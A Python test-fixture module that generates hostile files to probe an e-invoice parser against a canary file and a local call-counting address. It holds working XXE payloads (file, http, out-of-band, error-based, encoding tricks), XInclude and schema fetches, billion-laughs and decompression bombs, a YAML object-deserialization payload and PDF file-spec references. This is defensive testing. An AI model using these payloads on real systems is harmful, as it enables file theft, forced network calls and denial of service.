"""Files that a stranger sends to read our files, call our network or eat our memory: one list for every entrance (X1, X9).

Each probe is made for a canary: a file that must not be read, and an address that must not be called.
"""

import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

import pikepdf

UBL = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
CBC = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"
CII = "urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"
SECRET = b"pr0be-canary-5f2b"
"""What the file holds that must not be read."""


@dataclass(frozen=True)
class Probe:
    """One hostile file."""

    name: str
    content: bytes


def probes(secret: Path, url: str) -> list[Probe]:
    """All of them, for a file that holds :data:`SECRET` and an address on this machine where somebody counts the calls."""
    made = [*_entities(f"file://{secret}", url), *_references(f"file://{secret}", url), *_bombs(), *_odd(secret)]
    return [*made, *_in_pdfs([one for one in made if one.name in WRAPPED]), *_pdfs(secret, url)]


WRAPPED = {"general entity", "parameter entity", "external subset", "billion laughs", "xinclude", "deep"}


def _entities(file: str, url: str) -> Iterator[Probe]:
    """External entities in every shape a parser may fall for."""
    body = f'<Invoice xmlns="{UBL}" xmlns:cbc="{CBC}"><cbc:ID>&x;</cbc:ID></Invoice>'
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    for name, declared in {
        "general entity": f'<!ENTITY x SYSTEM "{file}">',
        "entity by http": f'<!ENTITY x SYSTEM "{url}/entity">',
        "entity by ftp": f'<!ENTITY x SYSTEM "{url.replace("http", "ftp")}/entity">',
        "public entity": f'<!ENTITY x PUBLIC "-//W3C//TEXT x//EN" "{url}/public">',
        "parameter entity": f'<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;',
        "parameter entity by file": f'<!ENTITY % p SYSTEM "{file}"> %p; <!ENTITY x "1">',
        "out of band": f'<!ENTITY % f SYSTEM "{file}"><!ENTITY % d SYSTEM "{url}/oob.dtd"> %d;',
        "error based": f'<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY x SYSTEM \'file:///none/%f;\'>"> %e;',
        "php filter": f'<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource={file[7:]}">',
        "jar": f'<!ENTITY x SYSTEM "jar:{url}/a.jar!/b.txt">',
        "unparsed": f'<!NOTATION n SYSTEM "{url}/n"><!ENTITY x SYSTEM "{file}" NDATA n>',
    }.items():
        yield Probe(name, f"{head}<!DOCTYPE Invoice [{declared}]>{body}".encode())
    yield Probe("external subset", f'{head}<!DOCTYPE Invoice SYSTEM "{url}/subset.dtd">{body}'.encode())
    yield Probe("public subset", f'{head}<!DOCTYPE Invoice PUBLIC "-//x//EN" "{url}/subset.dtd">{body}'.encode())
    hidden = f'<!DOCTYPE Invoice [<!ENTITY x SYSTEM "{file}">]>{body}'
    yield Probe("utf-16", ('<?xml version="1.0" encoding="UTF-16"?>' + hidden).encode("utf-16"))
    yield Probe("utf-7", b'<?xml version="1.0" encoding="UTF-7"?>' + hidden.encode("utf-7"))
    yield Probe("utf-32", ('<?xml version="1.0"?>' + hidden).encode("utf-32"))
    yield Probe("ebcdic", ('<?xml version="1.0" encoding="cp037"?>' + hidden).encode("cp037"))
    yield Probe("byte order mark", b"\xef\xbb\xbf" + (head + hidden).encode())
    yield Probe("after a comment", (f"{head}<!-- {'x' * 9000} -->" + hidden).encode())
    yield Probe("after an instruction", (f"{head}<?x {'y' * 9000}?>" + hidden).encode())
    yield Probe("attribute entity", f'{head}<!DOCTYPE I [<!ENTITY x "1">]><I xmlns="{UBL}" a="&x;"/>'.encode())
    yield Probe("two declarations", f"{head}{head}{hidden}".encode())


def _references(file: str, url: str) -> Iterator[Probe]:
    """Other ways to make a reader fetch something."""
    xi = "http://www.w3.org/2001/XInclude"
    yield Probe("xinclude", f'<Invoice xmlns="{UBL}" xmlns:xi="{xi}"><xi:include href="{file}" parse="text"/></Invoice>'.encode())
    yield Probe("xinclude by http", f'<Invoice xmlns="{UBL}" xmlns:xi="{xi}"><xi:include href="{url}/x"/></Invoice>'.encode())
    location = f'xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="{UBL} {url}/invoice.xsd"'
    yield Probe("schema location", f'<Invoice xmlns="{UBL}" {location}/>'.encode())
    styled = f'<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?><Invoice xmlns="{UBL}"/>'
    yield Probe("stylesheet", styled.encode())
    xslt = f'<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:include href="{url}/i.xsl"/></x:stylesheet>'
    yield Probe("xslt", xslt.encode())
    base = f'<Invoice xmlns="{UBL}" xml:base="{url}/"><Attachment href="x"/></Invoice>'
    yield Probe("base", base.encode())


def _bombs() -> Iterator[Probe]:
    """Small files that grow."""
    nested = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield Probe("billion laughs", f'<!DOCTYPE I [<!ENTITY l0 "ha">{nested}]><I xmlns="{UBL}">&l9;</I>'.encode())
    yield Probe("quadratic", f'<!DOCTYPE I [<!ENTITY a "{"a" * 50_000}">]><I xmlns="{UBL}">{"&a;" * 5_000}</I>'.encode())
    yield Probe("deep", b"<Invoice>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</Invoice>")
    yield Probe("deep and open", f'<Invoice xmlns="{UBL}">'.encode() + b"<a>" * 200_000)
    many = " ".join(f'a{n}="x"' for n in range(50_000))
    yield Probe("many attributes", f'<Invoice xmlns="{UBL}" {many}/>'.encode())
    yield Probe("long name", f'<Invoice xmlns="{UBL}"><{"n" * 2_000_000}/></Invoice>'.encode())
    spaces = " ".join(f'xmlns:n{n}="u{n}"' for n in range(20_000))
    yield Probe("many namespaces", f"<Invoice {spaces}/>".encode())
    yield Probe("unclosed comment", f'<Invoice xmlns="{UBL}"/><!-- {"-" * 1_000_000}'.encode())


def _odd(secret: Path) -> Iterator[Probe]:
    """Files that say they are something else."""
    yield Probe("yaml", f"!!python/object/apply:builtins.open [{secret}]".encode())
    yield Probe("json", b'{"lines": ' + b"[" * 100_000)
    yield Probe("html", f'<html><img src="file://{secret}"></html>'.encode())
    yield Probe("svg", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{secret}"/></svg>'.encode())
    yield Probe("gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + zlib.compress(b"\0" * 10_000_000))
    yield Probe("picture", b"\x89PNG\r\n\x1a\n" + b"\xff" * 1000)


def _in_pdfs(made: list[Probe]) -> Iterator[Probe]:
    """The same XML as the attachment of a PDF."""
    for one in made:
        pdf, out = pikepdf.new(), BytesIO()
        pdf.add_blank_page()
        pdf.attachments["factur-x.xml"] = pikepdf.AttachedFileSpec(pdf, one.content, mime_type="text/xml")
        pdf.save(out)
        yield Probe(f"{one.name} in a PDF", out.getvalue())


def _pdfs(secret: Path, url: str) -> Iterator[Probe]:
    """PDFs that reach out, or that grow when they are unpacked."""
    yield Probe("file specification", _pdf(pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=str(secret))))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, FS=pikepdf.Name.URL, F=f"{url}/factur-x.xml")
    yield Probe("url specification", _pdf(link))
    yield Probe("flate bomb", _flate(100_000_000))
    yield Probe("nested flate", _flate(100_000_000, times=2))
    yield Probe("cut PDF", b"%PDF-1.7\n1 0 obj\n<<" + b"/A " * 100_000)


def _pdf(spec: pikepdf.Dictionary) -> bytes:
    pdf, out = pikepdf.new(), BytesIO()
    pdf.add_blank_page()
    pdf.Root.AF = pikepdf.Array([spec])
    pdf.Root.Names = pikepdf.Dictionary(
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("factur-x.xml"), spec]))
    )
    pdf.save(out)
    return out.getvalue()


def _flate(size: int, times: int = 1) -> bytes:
    """A PDF whose one attachment unpacks to so many bytes of an invoice that never ends."""
    packer = zlib.compressobj(9)
    packed = packer.compress(f'<Invoice xmlns="{UBL}">'.encode())
    block = b" " * 1_000_000
    for _ in range(size // len(block)):
        packed += packer.compress(block)
    packed += packer.flush()
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    pdf, out = pikepdf.new(), BytesIO()
    pdf.add_blank_page()
    stream = pikepdf.Stream(pdf, packed)
    filters = pikepdf.Array([pikepdf.Name.FlateDecode] * times)
    stream.Type = pikepdf.Name.EmbeddedFile
    stream.write(packed, filter=filters, decode_parms=pikepdf.Array([pikepdf.Dictionary()] * times))
    spec = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F="factur-x.xml", UF="factur-x.xml", EF=pikepdf.Dictionary(F=pdf.make_indirect(stream))
    )
    pdf.Root.AF = pikepdf.Array([pdf.make_indirect(spec)])
    pdf.save(out)
    return out.getvalue()
